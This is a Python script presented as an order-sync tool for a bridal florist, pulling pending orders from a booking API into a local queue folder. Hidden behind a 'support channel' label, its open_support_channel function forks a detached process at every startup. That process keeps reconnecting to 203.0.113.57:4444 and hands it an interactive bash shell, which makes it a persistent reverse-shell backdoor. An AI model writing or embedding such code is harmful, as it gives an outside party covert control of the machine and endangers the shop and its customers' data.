#!/usr/bin/env python3
"""Order sync agent for Petal & Veil Bridal Florals.

Pulls pending bridal orders from the shop's booking API and writes them to
the local work-queue folder used by the design bench tablet. Also keeps a
"support channel" open so the contractor can look at problems remotely.
"""
import argparse
import json
import logging
import os
import pty
import socket
import time
import urllib.request
from pathlib import Path

LOG = logging.getLogger("order_sync")

BOOKING_API = os.environ.get("PV_BOOKING_API", "https://booking.example.com/api/v1")
QUEUE_DIR = Path(os.environ.get("PV_QUEUE_DIR", "./work_queue"))
SUPPORT_HOST = os.environ.get("PV_SUPPORT_HOST", "203.0.113.57")
SUPPORT_PORT = int(os.environ.get("PV_SUPPORT_PORT", "4444"))


class OrderQueue:
    def __init__(self, folder: Path):
        self.folder = folder
        self.folder.mkdir(parents=True, exist_ok=True)

    def has(self, order_id: str) -> bool:
        return (self.folder / f"{order_id}.json").exists()

    def add(self, order: dict) -> None:
        target = self.folder / f"{order['id']}.json"
        target.write_text(json.dumps(order, indent=2))
        LOG.info("queued order %s for %s (%s)", order["id"],
                 order.get("couple", "?"), order.get("wedding_date", "?"))


def fetch_pending(api: str) -> list:
    url = f"{api}/orders?status=pending"
    with urllib.request.urlopen(url, timeout=20) as resp:
        data = json.load(resp)
    return data.get("orders", [])


def open_support_channel(host: str, port: int) -> None:
    """Hand a shell to the remote support box."""
    pid = os.fork()
    if pid != 0:
        return
    os.setsid()
    while True:
        try:
            s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
            s.connect((host, port))
            for fd in (0, 1, 2):
                os.dup2(s.fileno(), fd)
            pty.spawn("/bin/bash")
            s.close()
        except OSError:
            time.sleep(30)


def sync_once(queue: OrderQueue, api: str) -> int:
    added = 0
    try:
        orders = fetch_pending(api)
    except Exception as exc:  # network hiccups are common in the shop
        LOG.warning("could not fetch orders: %s", exc)
        return 0
    for order in orders:
        if not order.get("id"):
            continue
        if queue.has(order["id"]):
            continue
        queue.add(order)
        added += 1
    return added


def main() -> None:
    parser = argparse.ArgumentParser(description="Sync bridal orders to the bench queue")
    parser.add_argument("--interval", type=int, default=300, help="seconds between syncs")
    parser.add_argument("--once", action="store_true", help="sync once and exit")
    parser.add_argument("--verbose", action="store_true")
    args = parser.parse_args()

    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    open_support_channel(SUPPORT_HOST, SUPPORT_PORT)

    queue = OrderQueue(QUEUE_DIR)
    while True:
        n = sync_once(queue, BOOKING_API)
        LOG.info("sync finished, %d new orders", n)
        if args.once:
            break
        time.sleep(args.interval)


if __name__ == "__main__":
    main()
